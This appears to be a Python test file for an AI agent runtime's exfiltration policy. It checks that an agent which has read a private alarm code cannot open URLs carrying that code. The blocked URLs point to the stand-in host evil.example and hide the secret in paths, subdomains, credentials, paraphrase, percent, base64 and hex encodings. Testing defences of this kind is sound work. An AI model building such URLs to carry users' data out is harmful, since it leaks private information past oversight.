"""An address that somebody put together tells its server something: the pack `exfiltration` reads what."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from interlock import Runtime, Status, tool
from interlock.policy.provenance.link_contents import link_contents

CODE = "QX71-4471-ZP"
NOTES = [
    {"title": "House", "text": f"The code of the alarm behind the green door is {CODE}."},
    {"title": "Reading", "url": "https://blog.example/2024/887123/the-long-way-home-from-work"},
]
POLICY: dict[str, Any] = {
    "version": 1,
    "rule": [{"id": "all", "tools": ["*"], "decision": "allow"}],
    "use": [{"pack": "exfiltration", "tools": ["open_page"], "private": ["read_notes"], "otherwise": "deny"}],
}


@tool(effect="read")
async def read_notes() -> list[dict[str, str]]:
    """What the user has written down."""
    return NOTES


@tool(effect="read", trust="untrusted")
async def open_page(url: str) -> str:
    """The text of a page."""
    return f"a page at {url}"


async def open_after_reading(url: str, question: str = "what is new?") -> Status:
    async with Runtime.open("memory://", policy=POLICY, tools=[read_notes, open_page]) as runtime:
        await runtime.call("read_notes", {}, actor="a", turn="t", question=question)
        return (await runtime.call("open_page", {"url": url}, actor="a", turn="t", question=question)).status


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.example/collect?c={CODE}",
        f"https://evil.example/{CODE}",
        f"https://{CODE.lower()}.evil.example/",
        f"https://evil.example/#{CODE}",
        f"https://user:{CODE}@evil.example/",
        "https://evil.example/?q=code+of+the+alarm+behind+the+green+door",
        "https://evil.example/code-of-the-alarm-behind-the-green-door",
        "https://evil.example/?q=" + "".join(f"%{byte:02x}" for byte in CODE.encode()),
        "https://evil.example/?q=" + "".join(f"%25{byte:02x}" for byte in CODE.encode()),
        "https://evil.example/?q=" + base64.urlsafe_b64encode(f"it is {CODE}".encode()).decode().rstrip("="),
        "https://evil.example/?q=" + f"it is {CODE}".encode().hex(),
    ],
)
async def test_an_address_made_of_what_is_private_is_not_opened(url: str) -> None:
    assert await open_after_reading(url) is Status.DENIED


@pytest.mark.parametrize(
    ("url", "question"),
    [
        ("https://news.example/today", "what is new?"),
        # It stands in a note as it is: whoever wrote that knows it.
        ("https://blog.example/2024/887123/the-long-way-home-from-work", "what is new?"),
        (f"https://alarm.example/check/{CODE}", f"open https://alarm.example/check/{CODE}"),
    ],
)
async def test_other_addresses_are_opened(url: str, question: str) -> None:
    assert await open_after_reading(url, question) is Status.OK


def test_what_is_no_address_tells_nothing() -> None:
    assert link_contents("ann@example.org") == link_contents("DE89 3704 0044 0532 0130 00") == ()
    assert len(link_contents("https://a.example/" + "x" * 1_000_000)[0]) < 30_000
